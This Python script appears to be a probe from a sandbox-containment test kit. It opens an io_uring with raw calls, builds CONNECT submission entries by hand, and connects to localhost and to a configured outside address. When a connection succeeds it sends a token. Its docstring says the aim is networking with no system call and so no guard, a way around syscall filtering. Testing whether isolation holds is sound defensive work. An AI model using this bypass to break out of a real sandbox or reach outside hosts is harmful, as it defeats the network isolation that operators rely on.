"""Opens an io_uring and sends a connection to the machine through it: no system call, no guard."""

import ctypes
import mmap
import os
import socket
import struct
import time

import kit

CONNECT = 16
parameters = ctypes.create_string_buffer(120)
ring, error = kit.call(kit.IO_URING_SETUP, 8, parameters)
kit.note("setup", ring if ring >= 0 else kit.name_of(error))
if ring < 0:
    raise SystemExit(0)
kit.reached("opened an io_uring")
fields = struct.unpack_from("=10I", parameters.raw)
queue = struct.unpack_from("=10I", parameters.raw, 40)
submissions = mmap.mmap(ring, queue[6] + fields[0] * 4, offset=0)
entries = mmap.mmap(ring, fields[0] * 64, offset=0x10000000)
for host, port in (
    ("127.0.0.1", kit.CONFIG["port"]),
    (kit.CONFIG["outer_address"], kit.CONFIG["outer_port"]),
):
    connection = socket.socket()
    address = ctypes.create_string_buffer(
        struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host), 16
    )
    (tail,) = struct.unpack_from("=I", submissions, queue[1])
    (mask,) = struct.unpack_from("=I", submissions, queue[2])
    entry = struct.pack(
        "=BBHiQQIIQ", CONNECT, 0, 0, connection.fileno(), 16, ctypes.addressof(address), 0, 0, 0
    )
    entries[(tail & mask) * 64 : (tail & mask) * 64 + len(entry)] = entry
    struct.pack_into("=I", submissions, queue[6] + (tail & mask) * 4, tail & mask)
    struct.pack_into("=I", submissions, queue[1], tail + 1)
    done, error = kit.call(kit.IO_URING_ENTER, ring, 1, 1, 1, 0, 0)
    kit.note(f"enter {host}", done if done >= 0 else kit.name_of(error))
    time.sleep(0.2)
    try:
        connection.getpeername()
        connection.send(f"{kit.TOKEN}\n".encode())
        kit.reached(f"connected to {host}:{port} by io_uring")
    except OSError as error:
        kit.note(host, kit.word_of(error))
os.close(ring)
